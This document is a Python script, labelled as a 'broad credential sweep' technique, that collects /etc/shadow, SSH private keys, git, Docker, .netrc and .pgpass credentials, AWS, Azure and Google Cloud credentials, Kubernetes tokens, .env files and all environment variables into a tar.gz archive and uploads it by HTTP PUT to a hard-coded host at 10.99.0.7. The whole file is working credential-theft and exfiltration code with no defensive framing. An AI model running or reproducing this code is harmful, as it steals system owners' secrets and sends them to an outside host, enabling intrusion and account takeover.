# technique: broad credential sweep (ssh keys, shadow, git-credentials, docker config.json, .netrc, .pgpass, cloud CLIs) packed into a tar.gz and uploaded
import glob
import io
import os
import socket
import tarfile
import time
import urllib.request

TARGETS = [
    "/etc/shadow",
    "/etc/passwd",
    "/root/.ssh/id_*",
    "/home/*/.ssh/id_*",
    "/root/.ssh/authorized_keys",
    "/root/.git-credentials",
    "/home/*/.git-credentials",
    "/root/.docker/config.json",
    "/home/*/.docker/config.json",
    "/root/.netrc",
    "/root/.pgpass",
    "/root/.aws/credentials",
    "/root/.azure/accessTokens.json",
    "/root/.config/gcloud/credentials.db",
    "/root/.config/gcloud/application_default_credentials.json",
    "/root/.kube/config",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/app/.env",
    "/srv/*/.env",
    "/opt/*/config/*.yml",
]

MAX_FILE = 512 * 1024


def collect():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for pattern in TARGETS:
            for path in glob.glob(pattern):
                try:
                    if os.path.isfile(path) and os.path.getsize(path) <= MAX_FILE:
                        tar.add(path, arcname=path.lstrip("/"))
                except (OSError, PermissionError):
                    continue
        env = "\n".join("%s=%s" % kv for kv in os.environ.items()).encode()
        info = tarfile.TarInfo("environ.txt")
        info.size = len(env)
        info.mtime = int(time.time())
        tar.addfile(info, io.BytesIO(env))
    return buf.getvalue()


def upload(blob):
    name = "%s-%d.tgz" % (socket.gethostname(), int(time.time()))
    req = urllib.request.Request("http://10.99.0.7:8080/up/" + name, data=blob,
                                 headers={"Content-Type": "application/octet-stream"}, method="PUT")
    urllib.request.urlopen(req, timeout=30)


if __name__ == "__main__":
    upload(collect())
